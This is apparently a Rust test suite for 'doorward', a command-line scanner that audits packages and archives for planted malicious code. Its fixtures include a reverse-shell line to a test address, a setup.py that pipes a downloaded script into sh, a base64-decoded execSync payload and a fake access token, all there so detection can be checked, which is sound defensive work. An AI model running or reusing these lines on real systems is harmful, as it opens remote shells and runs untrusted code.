//! Every verb and flag, as a user calls it.

use crate::{audit, doorward, run};
use std::fs;
use std::path::{Path, PathBuf};

fn planted() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../fixtures/planted/npm/lantern-colors-1.2.1")
}

fn clean() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../fixtures/planted/npm/lantern-colors-1.2.0")
}

#[test]
fn exit_status_and_first_line_tell_the_verdict() {
    for (path, code, word) in [(planted(), 1, "FAIL"), (clean(), 0, "PASS")] {
        let ran = run(&["audit", path.to_str().unwrap()]);
        assert_eq!(ran.code, code, "{}", ran.out);
        assert!(ran.out.starts_with(word), "{}", ran.out);
        assert_eq!(ran.err, "", "no progress in a pipe");
        assert!(!ran.out.contains('\x1b'), "no colour in a pipe");
    }
}

#[test]
fn show_gives_the_bytes_again_and_why_tells_the_chain() {
    let folder = tempfile::tempdir().unwrap();
    let report = folder.path().join("report.json");
    let (report, input) = (report.to_str().unwrap(), planted());
    let input = input.to_str().unwrap();
    assert_eq!(run(&["audit", input, "--json", report]).code, 1);
    let json: serde_json::Value = serde_json::from_slice(&fs::read(report).unwrap()).unwrap();
    let finding = &json["findings"][0];
    let fingerprint = finding["fingerprint"].as_str().unwrap();
    for which in [fingerprint, &fingerprint[..6], "#1"] {
        let why = run(&["why", report, which]);
        assert_eq!(why.code, 0, "{}", why.err);
        assert!(
            why.out.contains(finding["title"].as_str().unwrap()) && why.out.contains(finding["door"].as_str().unwrap()),
            "{}",
            why.out
        );
        let show = run(&["show", report, which, "--in", input]);
        assert_eq!(show.code, 0, "{}", show.err);
        let bytes = "execSync(Buffer.from(palette, 'base64').toString(), { stdio: 'ignore' })";
        assert!(show.out.contains("https://updates.example.test/palette.sh") && show.out.contains(bytes), "{}", show.out);
    }
    let other = run(&["show", report, fingerprint, "--in", clean().to_str().unwrap()]);
    assert_eq!(other.code, 2);
    assert!(other.err.contains("not what was audited") || other.err.contains("No such file"), "{}", other.err);
    assert_eq!(run(&["why", report, "ffffffffffffffff"]).code, 2);
    assert_eq!(run(&["why", input, "1"]).code, 2);
}

#[test]
fn the_command_explains_what_it_knows() {
    let rules = run(&["rules"]);
    assert_eq!((rules.code, run(&["rules", "list"]).out), (0, rules.out.clone()));
    let first = rules.out.split_whitespace().next().unwrap();
    let page = run(&["rules", "show", first]);
    assert!(page.out.contains("## What this misses"), "{}", page.out);
    assert_eq!(run(&["explain", first]).out, page.out);
    assert!(run(&["explain", "BLD-3"]).out.contains("Install-time code"));
    assert_eq!(run(&["explain", "NO-9"]).code, 2);
    let formats = run(&["formats"]);
    for name in ["zip", "tar", "gzip", "bzip2", "xz", "zstd", "ar", "deb", "elf", "base64", "hex"] {
        assert!(formats.out.lines().any(|line| line.starts_with(name)), "{name}");
    }
    assert!(run(&["version"]).out.starts_with(&format!("doorward {}", env!("CARGO_PKG_VERSION"))));
    assert!(run(&["manual"]).out.contains(".TH doorward"));
    assert!(run(&["completions", "bash"]).out.contains("complete -F"));
    assert_eq!(run(&["audit"]).code, 2);
    assert_eq!(run(&["worker"]).code, 2, "a worker is not for people");
}

#[test]
fn the_built_in_rules_pass_their_own_examples() {
    let ran = run(&["rules", "test"]);
    assert_eq!(ran.code, 0, "{}", ran.out);
    assert!(ran.out.trim_end().ends_with(" 0 failed"), "{}", ran.out);
}

/// A rule page; `example` must or must not match it.
fn page(verdict: &str, example: &str) -> String {
    format!(
        "```toml\ndoor = \"BLD-6\"\nseverity = \"medium\"\nconfidence = \"high\"\nscope = \"content\"\n```\n\
         # The word of a test stands in a file\nIt stands there.\n\n## Why it matters\nIt does not.\n\n## When it is fine\nAlways.\n\n\
         ## What this misses\nOther words.\n\n```patterns\nword = 'xyzzyplugh'\n```\n\n```when\n$word\n```\n\n\
         ```txt {verdict}\n{example}\n```\n\n```txt no-match\nnothing here\n```\n\n```txt match\nxyzzyplugh\n```\n"
    )
}

#[test]
fn users_add_rules_and_yara_packs() {
    let folder = tempfile::tempdir().unwrap();
    let (rules, yara, input) = (folder.path().join("rules"), folder.path().join("yara"), folder.path().join("input"));
    for path in [&rules.join("own"), &yara, &input] {
        fs::create_dir_all(path).unwrap();
    }
    fs::write(rules.join("own/word.md"), page("match", "say xyzzyplugh twice")).unwrap();
    fs::write(yara.join("pack.yar"), "rule plugh { meta: severity = \"high\" strings: $a = \"xyzzyplugh\" condition: $a }")
        .unwrap();
    fs::write(input.join("a.txt"), "xyzzyplugh\n").unwrap();
    let tested = run(&["rules", "test", rules.to_str().unwrap()]);
    assert_eq!(tested.code, 0, "{}{}", tested.out, tested.err);
    let flags = ["--rules", rules.to_str().unwrap(), "--yara", yara.to_str().unwrap()];
    let audited = audit(&input, &flags);
    let found = audited.rules(&["alarm", "review", "note"]);
    assert!(found.contains(&"own/word"), "{found:?}");
    assert!(found.iter().any(|rule| rule.starts_with("yara/") && rule.ends_with("/plugh")), "{found:?}");

    fs::write(rules.join("own/word.md"), page("no-match", "say xyzzyplugh twice")).unwrap();
    let failed = run(&["rules", "test", rules.to_str().unwrap()]);
    assert_eq!(failed.code, 1, "{}", failed.out);
    assert!(failed.out.contains("own/word.md:"), "{}", failed.out);
    fs::write(yara.join("pack.yar"), "rule broken {").unwrap();
    let broken = run(&["audit", input.to_str().unwrap(), "--yara", yara.to_str().unwrap()]);
    assert_eq!(broken.code, 2);
    assert!(broken.err.contains("pack.yar"), "{}", broken.err);
}

#[test]
fn a_policy_moves_levels_and_a_broken_one_is_refused_by_line() {
    let folder = tempfile::tempdir().unwrap();
    let policy = folder.path().join("policy.toml");
    let default = fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("../policies/default.toml")).unwrap();
    fs::write(&policy, default.replace("\"alarm\"", "\"note\"")).unwrap();
    let mild = audit(&planted(), &["--policy", policy.to_str().unwrap()]);
    assert_eq!((mild.code, mild.verdict()), (0, "pass"));
    fs::write(&policy, default.replace("\"alarm\"", "\"alert\"")).unwrap();
    let refused = run(&["audit", planted().to_str().unwrap(), "--policy", policy.to_str().unwrap()]);
    assert_eq!(refused.code, 2);
    assert!(refused.err.contains("policy.toml:"), "{}", refused.err);
}

#[test]
fn a_password_opens_what_is_encrypted_and_its_absence_is_said() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("locked.zip");
    let mut zip = zip::ZipWriter::new(fs::File::create(&path).unwrap());
    let options = zip::write::SimpleFileOptions::default().with_aes_encryption(zip::AesMode::Aes256, "open sesame");
    zip.start_file("run.sh", options).unwrap();
    std::io::Write::write_all(&mut zip, b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n").unwrap();
    zip.finish().unwrap();
    let locked = audit(&path, &[]);
    assert!(locked.problems().contains_key("encrypted"), "{:?}", locked.problems());
    let wrong = audit(&path, &["--password", "mellon"]);
    assert!(wrong.problems().contains_key("encrypted"), "{:?}", wrong.problems());
    let opened = audit(&path, &["--password", "mellon", "--password", "open sesame"]);
    assert!(!opened.problems().contains_key("encrypted"), "{:?}", opened.problems());
    assert!(!opened.rules(&["alarm", "review"]).is_empty());
}

#[test]
fn secrets_are_masked_unless_asked_for() {
    let folder = tempfile::tempdir().unwrap();
    let token = format!("glpat-{}", "Zq3xW8vB5nM1kL7jH4gF");
    fs::write(
        folder.path().join("deploy.sh"),
        format!("#!/bin/sh\nexport TOKEN={token}\ncurl -H \"Authorization: {token}\" x\n"),
    )
    .unwrap();
    let masked = audit(folder.path(), &["--facts"]);
    assert!(!String::from_utf8(masked.bytes).unwrap().contains(&token));
    let shown = audit(folder.path(), &["--facts", "--show-secrets"]);
    assert!(String::from_utf8(shown.bytes).unwrap().contains(&token));
}

#[test]
fn every_limit_that_cuts_is_reached_and_said() {
    let folder = tempfile::tempdir().unwrap();
    let tar = folder.path().join("x.tar");
    let script = folder.path().join("a_rather_long_name.sh");
    let text = "echo dGhpcyBpcyBzb21lIHRleHQgdGhhdCBpcyBlbmNvZGVk https://a.example.test https://b.example.test\n".repeat(20);
    fs::write(&script, &text).unwrap();
    fs::write(folder.path().join("b.sh"), "echo 2\n").unwrap();
    let mut made = std::process::Command::new("tar");
    made.arg("-C").arg(folder.path()).arg("-cf").arg(&tar).args(["a_rather_long_name.sh", "b.sh"]);
    assert!(made.status().unwrap().success());
    for (flag, kind) in [
        ("--bytes-open-max=100", "limit"),
        ("--content-bytes-max=100", "limit"),
        ("--depth-max=0", "limit"),
        ("--nodes-max=2", "limit"),
        ("--name-bytes-max=4", "limit"),
        ("--layers-per-content-max=0", "limit"),
        ("--facts-per-content-max=1", "facts-capped"),
    ] {
        let audited = audit(&tar, &[flag]);
        assert!(audited.problems().contains_key(kind), "{flag}: {:?}", audited.problems());
        assert_eq!(audited.verdict(), "incomplete", "{flag}");
    }
    let spilled = audit(&tar, &["--memory-bytes-max=0"]);
    assert_eq!(spilled.json["findings"], audit(&tar, &[]).json["findings"], "where contents wait changes nothing");
    let big = folder.path().join("big.bin");
    fs::write(&big, vec![1; 3 << 20]).unwrap();
    let full = run(&["audit", big.to_str().unwrap(), "--spill-bytes-max=1MiB"]);
    assert_eq!(full.code, 2);
    assert!(full.err.contains("--spill-bytes-max"), "{}", full.err);
}

#[test]
fn several_inputs_are_one_audit() {
    let both = doorward().arg("audit").arg(planted()).arg(clean()).args(["--json", "-"]).output().unwrap();
    let both = crate::Audited::of(both);
    assert_eq!(both.json["roots"].as_array().unwrap().len(), 2);
    assert_eq!(both.code, 1);
    assert_eq!(run(&["audit", "-", "-"]).code, 2);
}

#[test]
fn every_package_that_holds_the_same_payload_is_named() {
    let folder = tempfile::tempdir().unwrap();
    let payload = "import os\nos.system('curl -s https://updates.example.test/a.sh | sh')\n";
    for package in ["one", "two"] {
        fs::create_dir(folder.path().join(package)).unwrap();
        fs::write(folder.path().join(package).join("setup.py"), payload).unwrap();
    }
    let audited = audit(folder.path(), &[]);
    let findings = audited.json["findings"].as_array().unwrap();
    let items: Vec<_> = findings.iter().filter(|finding| finding["level"] != "note").collect();
    assert_eq!(items.len(), 1, "one item: {items:?}");
    assert_eq!(items[0]["places"], 1);
    let paths = [&items[0]["place"], &items[0]["also"][0]].map(|place| place["path"].as_str().unwrap());
    assert_eq!(paths, ["one/setup.py", "two/setup.py"]);
    let terminal = run(&["audit", folder.path().to_str().unwrap()]);
    assert!(terminal.out.contains("Also in: ") && terminal.out.contains("two/setup.py"), "{}", terminal.out);
}

#[test]
fn a_small_bound_on_the_memory_of_workers_leaves_room_for_small_packages() {
    let whole = audit(&planted(), &[]);
    let small = audit(&planted(), &["--worker-bytes-max", "256MiB"]);
    assert_eq!((small.code, small.rules(&["alarm"]), small.problems()), (1, whole.rules(&["alarm"]), whole.problems()));
    assert!(!small.rules(&["alarm"]).is_empty());
}
